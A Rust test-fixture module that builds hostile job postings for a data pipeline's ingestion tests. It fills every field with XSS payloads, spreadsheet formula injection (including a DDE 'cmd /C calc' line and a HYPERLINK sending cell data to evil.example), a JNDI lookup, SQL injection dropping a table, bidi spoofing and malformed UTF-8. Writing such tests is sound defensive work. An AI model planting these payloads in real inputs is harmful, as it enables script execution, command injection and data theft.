//! Postings as a hostile employer would write them, in every field that a source can fill.

use serde_json::{Value, json};

use crate::support::sample;

/// Categories with postings enough to be learnt: markup, a formula, another reading direction, no end.
pub fn categories() -> [String; 3] {
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")<script>window.pwned=1</script>".to_owned(),
        "\"'><svg onload=window.pwned=1>\u{202e}\u{2067} ممرض 42 (م/و)\u{61c}".to_owned(),
        format!("@SUM(A1) </title><!-- {}", "AVeryLongName ".repeat(400)),
    ]
}

/// Titles, names and whatever else is one line.
const LINES: [&str; 20] = [
    "<script>window.pwned=1</script>",
    "\"'><svg onload=window.pwned=1> onmouseover=window.pwned=1 x='",
    "<img src=x onerror=\"window.pwned=1\">",
    "</title></textarea></option></select></script><!-- unclosed",
    "</bdi></td></table><base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<iframe srcdoc=\"<script>top.pwned=1</script>\"></iframe><style>*{display:none}</style>",
    "javascript:window.pwned=1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "\u{202e}gnp.exe\u{202c} \u{2066}a\u{2067}b\u{2068}c \u{200f}\u{200e}\u{61c}",
    "ممرض 42 (م/و) אחות",
    "\0\u{1b}[31m\u{1b}]0;pwned\u{7}\u{9b}31m\u{8}\u{7f}\u{85}",
    "{{7*7}} ${jndi:ldap://evil.example/x} %s %00 {% raw %} `careerpulse`",
    "' or 1=1; drop table careerpulse_silver.job_postings; --",
    "line\u{2028}paragraph\u{2029}\u{feff}\u{fffe}\u{e0041}\u{200b}\u{ad}end",
];

/// Descriptions: everything that could run, load, send, move or hide, and tags that are never closed.
const DESCRIPTIONS: [&str; 4] = [
    "<h1 onclick=\"window.pwned=1\">About us</h1><script>window.pwned=1</script><svg onload=\"window.pwned=1\"><script>window.pwned=1</script></svg>\
     <iframe srcdoc=\"<script>top.pwned=1</script>\" src=\"https://evil.example/\"></iframe><img src=\"https://evil.example/x.png\" onerror=\"window.pwned=1\">\
     <a href=\"javascript:window.pwned=1\">Apply</a> <a href=\" java\tscript:window.pwned=1\">or</a> <a href=\"data:text/html,<script>alert(1)</script>\">here</a>\
     <a href=\"https://example.org/apply\" target=_blank style=\"position:fixed;inset:0\" onmouseover=\"window.pwned=1\">there</a> <a href=//evil.example/>nowhere</a>",
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/x.png)}</style>\
     <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><base href=\"https://evil.example/\"><link rel=stylesheet href=\"https://evil.example/x.css\">\
     <form action=\"https://evil.example/\"><input name=q autofocus onfocus=\"window.pwned=1\"><button formaction=\"javascript:window.pwned=1\">Send</button></form>\
     <p style=\"background:url('https://evil.example/y.png')\">Care</p><object data=\"data:text/html,x\"></object><embed src=\"https://evil.example/\"><video poster=x onerror=\"window.pwned=1\">",
    "<p>Care for patients <b><i>always</b></i> \u{202e}dna\u{202c} \u{2067}أهلا\u{1b}[31m\u{0}\u{7}\u{9b}<math><mi//xlink:href=\"data:x,<script>window.pwned=1</script>\">\
     <table><tr><td></bdi></main></body></html><noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\"></noscript><template><img src=x onerror=window.pwned=1></template>\
     <plaintext><xmp><textarea></textarea><img src=x onerror=window.pwned=1>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62; &amp;lt;svg onload=window.pwned=1&amp;gt;\
     <p id=content name=location>=1+1</p><!-- unclosed <img src=x onerror=window.pwned=1",
];

const LANDING_PAGES: [&str; 6] = [
    "javascript:window.pwned=1",
    " java\tscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "https://example.org/\"><script>window.pwned=1</script>?x='onclick=window.pwned=1 y",
    "//evil.example/",
    "vbscript:x",
];

/// Stands in a posting where bytes will that are no UTF-8.
pub const BROKEN: &str = "BROKEN-BYTES";

/// The shipped sample, of which many postings are hostile: labelled ones under hostile categories and
/// under plain ones, and others without a category.
pub fn postings() -> Vec<Value> {
    let plain = sample(250).into_iter();
    let plain = plain.map(|posting| serde_json::to_value(posting).expect("a posting is JSON"));
    let categories = categories();
    let (mut labelled, mut unlabelled) = (0, 0);
    let all = plain.map(|mut posting| {
        let is_labelled = posting["categories"]
            .as_array()
            .is_some_and(|categories| !categories.is_empty());
        let count = match is_labelled {
            true => &mut labelled,
            false => &mut unlabelled,
        };
        let place = *count;
        *count += 1;
        match is_labelled {
            true if place % 4 == 0 => {
                let category = &categories[place / 4 % categories.len()];
                posting["categories"] = json!([{ "name": category }]);
                spoil(&mut posting, place / 4);
            }
            true if place % 4 == 1 => spoil(&mut posting, place / 4),
            false if place % 2 == 0 => spoil(&mut posting, place / 2),
            _ => {}
        }
        posting
    });
    all.collect()
}

/// Whether a posting was made hostile and has no category.
pub fn is_hostile_and_unlabelled(posting: &Value) -> bool {
    posting["categories"].as_array().is_some_and(Vec::is_empty)
        && posting["short_name"] == "<script>window.pwned=1</script>"
}

fn spoil(posting: &mut Value, place: usize) {
    let line = |shift: usize| LINES[(place + shift) % LINES.len()];
    let title = posting["name"].as_str().unwrap_or_default().to_owned();
    // A formula must begin its cell, so what is hostile stands first.
    posting["name"] = match place % 23 {
        21 => json!(format!("{title} {}", "<b>x</b>".repeat(131_072))),
        22 => json!(format!("{title} {BROKEN}")),
        _ => json!(format!("{} {title}", line(0))),
    };
    posting["company"] = json!({"id": 1, "name": line(1), "short_name": line(2)});
    posting["locations"] = json!([{ "name": line(3) }, { "name": line(4) }]);
    posting["levels"] = json!([{ "name": line(5), "short_name": line(6) }]);
    posting["tags"] = json!([{ "name": line(7), "short_name": line(8) }]);
    posting["type"] = json!(line(9));
    posting["short_name"] = json!(LINES[0]);
    posting["refs"] = json!({"landing_page": LANDING_PAGES[place % LANDING_PAGES.len()]});
    let words = posting["contents"].as_str().unwrap_or_default();
    let description = DESCRIPTIONS[place % DESCRIPTIONS.len()];
    posting["contents"] = json!(format!("{words} {description}"));
    // A field that no column is made of: its name reaches an alarm.
    posting[line(0)] = json!(1);
}

/// The postings as pages of the source, some bytes of which are no UTF-8; the last but one is none at
/// all, and the last holds half a surrogate pair.
pub fn pages() -> Vec<Vec<u8>> {
    let all = postings();
    let pages = all.len().div_ceil(20) + 2;
    let page = |number: usize, results: &[Value]| {
        let page =
            json!({"page": number, "page_count": pages, "total": all.len(), "results": results});
        page.to_string()
    };
    let mut bodies: Vec<Vec<u8>> = (0..pages - 2)
        .map(|number| {
            broken(&page(
                number,
                &all[number * 20..all.len().min(number * 20 + 20)],
            ))
        })
        .collect();
    bodies.push(b"<script>window.pwned=1</script>\x1b[31m\xff\xfe\xc0\xaf".to_vec());
    let half = json!({"id": 1, "name": "HALF"}).to_string();
    let half = page(pages - 1, &[]).replace("[]", &format!("[{half}]"));
    bodies.push(half.replace("HALF", "\\ud800").into_bytes());
    bodies
}

/// With bytes that are no UTF-8: none of any encoding, an overlong slash, half a surrogate pair, a
/// beginning without its end.
fn broken(page: &str) -> Vec<u8> {
    let bytes = b"\xff\xfe\xc0\xaf\xed\xa0\x80\xf0\x9f";
    let mut parts = page.split(BROKEN);
    let mut body = parts.next().unwrap_or_default().as_bytes().to_vec();
    for part in parts {
        body.extend_from_slice(bytes);
        body.extend_from_slice(part.as_bytes());
    }
    body
}
